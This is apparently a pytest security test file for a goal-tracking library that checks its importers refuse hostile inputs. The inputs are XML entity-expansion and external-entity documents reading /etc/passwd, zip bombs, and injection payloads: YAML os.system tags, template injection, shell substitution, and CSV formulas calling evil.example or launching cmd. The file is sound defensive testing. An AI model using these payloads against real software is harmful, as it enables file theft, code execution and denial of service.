"""The claims of SECURITY.md: each names the tests that hold it, and hostile office files are held here."""

from __future__ import annotations

import io
import re
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest

from goalkit.english import PLAIN
from goalkit.interchange import InterchangeError, import_goals, import_text, layouts
from tests.fuzzing.targets import SHEET, WORD, office

ROOT = Path(__file__).resolve().parent.parent
POLICY = (ROOT / "SECURITY.md").read_text(encoding="utf-8")
NAMED = re.compile(r"`(test_\w+)`")
DEFINED = re.compile(r"^(?:async )?def (test_\w+)", re.MULTILINE)
HEAD = '<?xml version="1.0"?>'
BODY = WORD["word/document.xml"]
EXPANDING = "<!DOCTYPE lol [<!ENTITY a0 'goal'>{}]>".format(
    "".join(f"<!ENTITY a{number} '{f'&a{number - 1};' * 10}'>" for number in range(1, 10))
)
READING = "<!DOCTYPE lol [<!ENTITY a9 SYSTEM 'file:///etc/passwd'>]>"


def test_every_claim_names_a_test_that_exists() -> None:
    rows = [line for line in POLICY.splitlines() if line.startswith("| ")][2:]
    named = {name for row in rows for name in NAMED.findall(row)}
    assert len(named) > 30
    sources = [file.read_text(encoding="utf-8") for file in sorted((ROOT / "tests").rglob("*.py"))]
    known = {name for source in sources for name in DEFINED.findall(source)}
    assert named - known == set()
    assert [row for row in rows if not NAMED.search(row) and "your own code" not in row] == []


def packed(parts: dict[str, str | bytes]) -> bytes:
    """A Word document in which some parts are others."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in {**WORD, **parts}.items():
            archive.writestr(name, content)
    return made.getvalue()


def refused(data: bytes) -> str:
    """Why a Word document isn't read, told within seconds."""
    began = time.process_time()
    with pytest.raises(InterchangeError) as told:
        import_text(data, path="theirs.docx", calendar=PLAIN)
    assert time.process_time() - began < 3
    return str(told.value)


HIDDEN = {
    "at the top": lambda doctype: {"word/document.xml": HEAD + doctype + BODY.replace("Objective", "&a9;")},
    "behind a comment": lambda doctype: {
        "word/document.xml": f"{HEAD}<!--{'x' * 200_000}-->{doctype}{BODY.replace('Objective', '&a9;')}"
    },
    "in another encoding": lambda doctype: {
        "word/document.xml": (
            '<?xml version="1.0" encoding="UTF-16"?>' + doctype + BODY.replace("Objective", "&a9;")
        ).encode("utf-16")
    },
    "under another name": lambda doctype: {
        "_rels/.rels": WORD["_rels/.rels"].replace("document.xml", "document.png"),
        "word/document.png": HEAD + doctype + BODY.replace("Objective", "&a9;"),
    },
}


@pytest.mark.parametrize("doctype", [EXPANDING, READING], ids=["that expand", "that read files"])
@pytest.mark.parametrize("where", HIDDEN)
def test_an_office_file_may_define_no_entities(where: str, doctype: str) -> None:
    assert "it defines entities, as no office program does" in refused(packed(HIDDEN[where](doctype)))


def test_a_workbook_may_define_no_entities() -> None:
    made = io.BytesIO()
    with zipfile.ZipFile(office(".xlsx")) as known, zipfile.ZipFile(made, "w") as archive:
        for name in known.namelist():
            data = known.read(name)
            archive.writestr(name, f"<!--{'x' * 9_000}-->{EXPANDING}".encode() + data if name == SHEET else data)
    layout = next(one for one in layouts().values() if "xlsx" in one.formats)
    with pytest.raises(InterchangeError, match="it defines entities"):
        import_goals(made.getvalue(), "xlsx", layout, path="theirs.xlsx", calendar=PLAIN)


def test_a_small_archive_that_unpacks_to_much_is_not_opened() -> None:
    assert "unpacks to more than 50 MB" in refused(packed({"word/media/zeros.png": bytes(60_000_000)}))
    many = "<w:p><w:r><w:t>x</w:t></w:r></w:p>" * 100_000
    data = packed({"word/document.xml": BODY.replace("</w:body>", f"{many}</w:body>")})
    assert len(data) < 100_000
    assert "longer than any page of goals" in refused(data)


def test_an_archive_that_lies_about_its_size_is_refused() -> None:
    data = bytearray(packed({"word/document.xml": BODY.replace("58%", "9" * 1_000_000)}))
    for sign, at in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):  # what it says of a part, in its list and before it
        start = data.find(sign)
        while start >= 0:
            if b"word/document.xml" in data[start : start + 80]:
                data[start + at : start + at + 4] = (100).to_bytes(4, "little")
            start = data.find(sign, start + 4)
    assert refused(bytes(data))


def test_depth_in_an_office_file_is_borne() -> None:
    deep = BODY.replace("<w:tbl>", "<w:tbl><w:tr><w:tc>" * 3_000).replace("</w:tbl>", "</w:tc></w:tr></w:tbl>" * 3_000)
    assert refused(packed({"word/document.xml": deep}))


WATCHING = """\
import datetime, sys
import goalkit
from tests.test_security import TRAPS

def play(form, source):
    document = goalkit.read(source, form, path=f"goals.{form}")
    report = goalkit.lint([document], today=datetime.date(2027, 1, 1))
    goalkit.convert(document, "smart")
    return report

for form, source in TRAPS.items():
    play(form, source.replace("@", "x"))  # so that all that is needed is loaded
seen = []
sys.addaudithook(lambda event, given: seen.append((event, given)) if watching else None)
watching = True
for form, source in TRAPS.items():
    play(form, source)
watching = False
ACTS = "open socket subprocess os. shutil exec compile urllib ctypes import pickle tempfile".split()
print([event for event, _ in seen if event.startswith(tuple(ACTS))])
"""
TRAPS = {
    "markdown": "# Objective: We grow\n- KR: Raise NPS from 1 to 2 ![@](file:///etc/passwd)\n"
    "<iframe src=//evil.example>\n\n{% include '/etc/passwd' %} {{ ''.__class__ }}\n"
    "\n$(touch @) `touch @`\n\n[1]: /etc/passwd\n",
    "yaml": "objectives:\n  - objective: !!python/object/apply:os.system ['touch @']\n"
    "    include: !include /etc/passwd\n    key_results: [!!python/name:os.system '@']\n",
    "toml": '[[objectives]]\nobjective = "${HOME} $(touch @)"\nkey_results = ["Raise NPS from 1 to 2"]\n',
    "json": '{"$ref": "file:///etc/passwd", "objectives": [{"objective": "We grow", "__class__": "@"}]}',
    "csv": "Objective,Key Result\n=WEBSERVICE(\"http://evil.example/@\"),=cmd|'/c calc'!A0\n",
}


def test_no_goal_file_runs_opens_or_connects_to_anything() -> None:
    done = subprocess.run([sys.executable, "-c", WATCHING], cwd=ROOT, capture_output=True, text=True, check=False)
    assert (done.stdout, done.stderr) == ("[]\n", "")
